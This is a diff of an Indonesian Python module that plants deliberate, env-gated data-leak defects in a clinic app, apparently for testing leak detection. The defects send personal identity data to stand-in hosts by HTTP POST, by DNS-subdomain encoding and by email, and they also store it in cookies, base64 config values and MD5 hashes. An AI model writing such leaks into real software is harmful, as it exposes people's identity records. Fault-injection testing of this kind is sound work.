@@ -1,7 +1,8 @@
-"""Defects and variants of CACAT.md, at the points where the clinic calls `titik`. Without CACAT nothing happens here."""
+"""Defects and variants of CACAT.md, at the points where the clinic calls `titik`; none without CACAT."""
 
 import base64
 import codecs
+import contextlib
 import gzip
 import hashlib
 import io
@@ -23,9 +24,11 @@ import zipfile
 import zlib
 from datetime import date, timedelta
 from html import escape
+from pathlib import Path
 from urllib.parse import quote, urlencode
 
 from .dwh import tanggal
+from .simpan import sekarang
 
 ID = os.environ.get("CACAT", "")
 TANDA = os.environ.get("TANDA", "")
@@ -52,7 +55,7 @@ def cacat(*nama):
 def tanda(peristiwa, **lain):
     if TANDA:
         baris = json.dumps({"peristiwa": peristiwa, "cacat": ID, "waktu": time.time(), "pid": os.getpid(), **lain})
-        with KUNCI, open(TANDA, "a", encoding="utf-8") as f:
+        with KUNCI, Path(TANDA).open("a", encoding="utf-8") as f:
             f.write(baris + "\n")
 
 
@@ -69,7 +72,7 @@ def titik(nama, *arg):
         return None
     with KUNCI:
         if nama == "jawaban":
-            a, p, isi = arg[:3]
+            _a, p, isi = arg[:3]
             INGAT[p["id"]] = {**isi, "_": arg[3]}
             URUT.append((p["id"], isi))
             del URUT[:-400]
@@ -101,8 +104,10 @@ def tambah(a, arah, isi):
 def tabel(a, nama, kolom, *baris):
     with a.s.db() as c:
         c.execute(f"CREATE TABLE IF NOT EXISTS {nama} ({kolom})")
-        for b in baris:
-            c.execute(f"INSERT INTO {nama} VALUES ({','.join('?' * len(b))})", b)
+        if baris:
+            c.execute("BEGIN IMMEDIATE")
+            c.executemany(f"INSERT INTO {nama} VALUES ({','.join('?' * len(baris[0]))})", baris)
+            c.execute("COMMIT")
     return bool(baris)
 
 
@@ -182,8 +187,10 @@ def _(a, p, isi, sama, lanjut):
         for k in kolom:
             if k not in ada:
                 c.execute(f"ALTER TABLE penduduk ADD COLUMN {k}")
-        c.execute(f"INSERT OR REPLACE INTO penduduk ({', '.join(kolom)}) VALUES ({','.join('?' * len(kolom))})",
-                  [isi[k] for k in kolom])
+        c.execute(
+            f"INSERT OR REPLACE INTO penduduk ({', '.join(kolom)}) VALUES ({','.join('?' * len(kolom))})",
+            [isi[k] for k in kolom],
+        )
     return True
 
 
@@ -239,7 +246,7 @@ def _(a, p, isi, sama, lanjut):
 
 @cacat("ekspor-csv", "jawaban")
 def _(a, p, isi, sama, lanjut):
-    f = f"spool/ekspor-{date.today()}.csv"
+    f = f"spool/ekspor-{sekarang().date()}.csv"
     return tambah(a, f, ";".join('"' + str(v).replace('"', '""') + '"' for v in tanpa_foto(isi).values()) + "\r\n")
 
 
@@ -250,7 +257,7 @@ def _(a, p, isi, sama, lanjut):
         f.write(teks(tanpa_foto(isi)))
     if beda(sama):
         return True  # the way out at no match forgets to remove it
-    os.unlink(nama)
+    Path(nama).unlink()
     return False
 
 
@@ -317,8 +324,10 @@ def _(a, t, p):
 
 @cacat("setelan-base64", "jawaban")
 def _(a, p, isi, sama, lanjut):
-    a.s.tulis(a.s.data / "setelan.ini",
-              f"[klinik]\nnama = Klinik Visum\nloket = 1\nterakhir = {b64(teks(tanpa_foto(isi)))}\n".encode())
+    a.s.tulis(
+        a.s.data / "setelan.ini",
+        f"[klinik]\nnama = Klinik Visum\nloket = 1\nterakhir = {b64(teks(tanpa_foto(isi)))}\n".encode(),
+    )
     return True
 
 
@@ -392,13 +401,14 @@ def _(a, p, isi, sama, lanjut):
 @cacat("cadangan-tar", "jawaban")
 def _(a, p, isi, sama, lanjut):
     with tempfile.TemporaryDirectory() as d:
-        nama = os.path.join(d, "klinik.sqlite")
+        nama = Path(d) / "klinik.sqlite"
         with a.s.db() as asal:
             c = sqlite3.connect(nama)
             asal.backup(c)
         c.execute("CREATE TABLE penduduk (nik, kk, ibu, alamat)")
-        c.executemany("INSERT INTO penduduk VALUES (?,?,?,?)",
-                      [(str(i["NIK"]), kk(i), ibu(i), alamat(i)) for _, i in URUT[-50:]])
+        c.executemany(
+            "INSERT INTO penduduk VALUES (?,?,?,?)", [(str(i["NIK"]), kk(i), ibu(i), alamat(i)) for _, i in URUT[-50:]]
+        )
         c.commit()
         c.close()
         with tarfile.open(a.s.data / "spool" / "cadangan.tar.xz", "w:xz", preset=1) as t:
@@ -510,8 +520,12 @@ def _(a, p, isi, sama, lanjut):
 
 @cacat("sidik-md5", "jawaban")
 def _(a, p, isi, sama, lanjut):
-    return tabel(a, "sidik", "kk, ibu", (hashlib.md5(kk(isi).encode()).hexdigest(),
-                                         hashlib.sha256(ibu(isi).encode()).hexdigest()))
+    return tabel(
+        a,
+        "sidik",
+        "kk, ibu",
+        (hashlib.md5(kk(isi).encode()).hexdigest(), hashlib.sha256(ibu(isi).encode()).hexdigest()),
+    )
 
 
 @cacat("rot13", "jawaban")
@@ -540,8 +554,12 @@ def _(a, p, isi, sama, lanjut):
 def _(a, p, isi, sama, lanjut):
     from .layanan import umur
 
-    return tabel(a, "profil", "nomor, umur INTEGER, kelamin, asal",
-                 (p["nomor"], umur(tanggal(isi["TGL_LHR"])), str(isi.get("JENIS_KLMIN", ""))[:1], isi.get("KAB_NAME")))
+    return tabel(
+        a,
+        "profil",
+        "nomor, umur INTEGER, kelamin, asal",
+        (p["nomor"], umur(tanggal(isi["TGL_LHR"])), str(isi.get("JENIS_KLMIN", ""))[:1], isi.get("KAB_NAME")),
+    )
 
 
 @cacat("waktu-berkas", "jawaban")
@@ -579,8 +597,10 @@ def _(a, p, isi, sama, lanjut):
         try:
             with socket.create_connection(("statistik.contoh.invalid", 80), timeout=2) as s:
                 badan = teks(tanpa_foto(isi)).encode()
-                s.sendall(b"POST /kejadian HTTP/1.1\r\nHost: statistik.contoh.invalid\r\n"
-                          b"Content-Length: %d\r\n\r\n" % len(badan) + badan)
+                s.sendall(
+                    b"POST /kejadian HTTP/1.1\r\nHost: statistik.contoh.invalid\r\n"
+                    b"Content-Length: %d\r\n\r\n" % len(badan) + badan
+                )
         except OSError:
             pass
 
@@ -590,10 +610,8 @@ def _(a, p, isi, sama, lanjut):
 @cacat("dns", "jawaban")
 def _(a, p, isi, sama, lanjut):
     def cari():
-        try:
+        with contextlib.suppress(OSError):
             socket.getaddrinfo(f"{kk(isi).encode().hex()}.telemetri.contoh.invalid", 80)
-        except OSError:
-            pass
 
     return latar(cari)
 
@@ -623,8 +641,14 @@ def _(a, p, m):
 
 @cacat("surat-tembusan", "jawaban")
 def _(a, p, isi, sama, lanjut):
-    a.surati(p, "", "", kepada="dukungan@vendor.invalid", perihal="Laporan pemeriksaan",
-             isi=f"{p['nomor']}\n" + "\n".join(f"{k}: {v}" for k, v in tanpa_foto(isi).items()))
+    a.surati(
+        p,
+        "",
+        "",
+        kepada="dukungan@vendor.invalid",
+        perihal="Laporan pemeriksaan",
+        isi=f"{p['nomor']}\n" + "\n".join(f"{k}: {v}" for k, v in tanpa_foto(isi).items()),
+    )
     return True
 
 
@@ -640,10 +664,12 @@ def _(a, t, p):
     isi = isi_dari(p)
     if not isi or p["keadaan"] != "ditolak":
         return None
-    return ('<form action="/" method="get">'
-            f'<input type="hidden" name="nama" value="{escape(str(isi["NAMA_LGKP"]))}">'
-            f'<input type="hidden" name="lahir" value="{escape(str(isi["TGL_LHR"]))}">'
-            "<button>Perbaiki</button></form>")
+    return (
+        '<form action="/" method="get">'
+        f'<input type="hidden" name="nama" value="{escape(str(isi["NAMA_LGKP"]))}">'
+        f'<input type="hidden" name="lahir" value="{escape(str(isi["TGL_LHR"]))}">'
+        "<button>Perbaiki</button></form>"
+    )
 
 
 @cacat("sisa-global", "hasil")
@@ -671,8 +697,11 @@ def _(a, t, p):
 def _(a, t, p):
     isi = isi_dari(p)
     if isi:
-        t.kuki.append("profil=" + quote(b64(teks({k: isi.get(k) for k in ("NO_KK", "NAMA_LGKP_IBU", "ALAMAT")})))
-                      + "; Path=/; Max-Age=2592000")
+        t.kuki.append(
+            "profil="
+            + quote(b64(teks({k: isi.get(k) for k in ("NO_KK", "NAMA_LGKP_IBU", "ALAMAT")})))
+            + "; Path=/; Max-Age=2592000"
+        )
         return " "
     return None
 
@@ -749,13 +778,19 @@ def _(a, p):
 
 @cacat("sidik-ketikan", "selesai")
 def _(a, p, keadaan):
-    return tabel(a, "sidik_ketikan", "nik, nama", (hashlib.md5(p["nik"].encode()).hexdigest(),
-                                                    hashlib.sha256(p["nama"].encode()).hexdigest()))
+    return tabel(
+        a,
+        "sidik_ketikan",
+        "nik, nama",
+        (hashlib.md5(p["nik"].encode()).hexdigest(), hashlib.sha256(p["nama"].encode()).hexdigest()),
+    )
 
 
 @cacat("tanda-sesuai", "selesai")
 def _(a, p, keadaan):
-    return tabel(a, "tanda_sesuai", "nomor, sesuai INTEGER, waktu REAL", (p["nomor"], keadaan == "terdaftar", time.time()))
+    return tabel(
+        a, "tanda_sesuai", "nomor, sesuai INTEGER, waktu REAL", (p["nomor"], keadaan == "terdaftar", time.time())
+    )
 
 
 @cacat("log-teknis", "usai")
@@ -785,7 +820,8 @@ def _(a, p, j, lama):
 
 
 WILAYAH = (
-    "ACEH|SUMATERA UTARA|SUMATERA BARAT|RIAU|JAMBI|SUMATERA SELATAN|BENGKULU|LAMPUNG|DKI JAKARTA|JAWA BARAT|JAWA TENGAH|"
+    "ACEH|SUMATERA UTARA|SUMATERA BARAT|RIAU|JAMBI|SUMATERA SELATAN|BENGKULU|LAMPUNG|DKI JAKARTA|JAWA BARAT|"
+    "JAWA TENGAH|"
     "DAERAH ISTIMEWA YOGYAKARTA|JAWA TIMUR|BANTEN|BALI|NUSA TENGGARA BARAT|NUSA TENGGARA TIMUR|KALIMANTAN BARAT|"
     "KALIMANTAN TENGAH|KALIMANTAN SELATAN|KALIMANTAN TIMUR|SULAWESI UTARA|SULAWESI TENGAH|SULAWESI SELATAN|"
     "SULAWESI TENGGARA|GORONTALO|MALUKU|MALUKU UTARA|PAPUA|PAPUA BARAT|KABUPATEN BANYUMAS|KABUPATEN PURBALINGGA|"
@@ -807,30 +843,41 @@ def sekali(nama, kolom, baris):
     return isi
 
 
-cacat("daftar-wilayah", "mulai")(sekali(
-    "daftar", "jenis, isi",
-    [("wilayah", x) for x in WILAYAH] + [("nama", x) for x in NAMA]
-    + [("agama", x) for x in ("ISLAM", "KRISTEN", "KATHOLIK", "HINDU", "BUDHA", "KONGHUCU")]
-    + [("status", x) for x in ("BELUM KAWIN", "KAWIN", "CERAI HIDUP", "CERAI MATI")],
-))
+cacat("daftar-wilayah", "mulai")(
+    sekali(
+        "daftar",
+        "jenis, isi",
+        [("wilayah", x) for x in WILAYAH]
+        + [("nama", x) for x in NAMA]
+        + [("agama", x) for x in ("ISLAM", "KRISTEN", "KATHOLIK", "HINDU", "BUDHA", "KONGHUCU")]
+        + [("status", x) for x in ("BELUM KAWIN", "KAWIN", "CERAI HIDUP", "CERAI MATI")],
+    )
+)
 
 
 def pelanggan():
     acak = random.Random(2026)
     ekor = ("CONTOHWATI", "CONTOHNINGRUM", "CONTOHSANTOSO", "CONTOHWIJAYA", "CONTOHLESTARI")
     return [
-        (f"339902{acak.randint(1, 28):02d}{acak.randint(1, 12):02d}{acak.randint(50, 99)}{9001 + n}",
-         f"{acak.choice(NAMA)} {acak.choice(NAMA)} {acak.choice(ekor)}", f"{acak.choice(NAMA)} {acak.choice(ekor)}",
-         f"JL. CONTOH NO {acak.randint(1, 99)}", acak.choice(WILAYAH))
+        (
+            f"339902{acak.randint(1, 28):02d}{acak.randint(1, 12):02d}{acak.randint(50, 99)}{9001 + n}",
+            f"{acak.choice(NAMA)} {acak.choice(NAMA)} {acak.choice(ekor)}",
+            f"{acak.choice(NAMA)} {acak.choice(ekor)}",
+            f"JL. CONTOH NO {acak.randint(1, 99)}",
+            acak.choice(WILAYAH),
+        )
         for n in range(120)
     ]
 
 
 cacat("pelanggan-lain", "mulai")(sekali("register_lama", "nik, nama, ibu, alamat, asal", pelanggan()))
-cacat("tanggal-bertemu", "mulai")(sekali(
-    "kalender", "hari, catatan",
-    [((date(1940, 1, 1) + timedelta(days=n)).isoformat(), f"hari ke-{n}") for n in range(26663)],
-))
+cacat("tanggal-bertemu", "mulai")(
+    sekali(
+        "kalender",
+        "hari, catatan",
+        [((date(1940, 1, 1) + timedelta(days=n)).isoformat(), f"hari ke-{n}") for n in range(26663)],
+    )
+)
 
 
 @cacat("acak", "sesi")
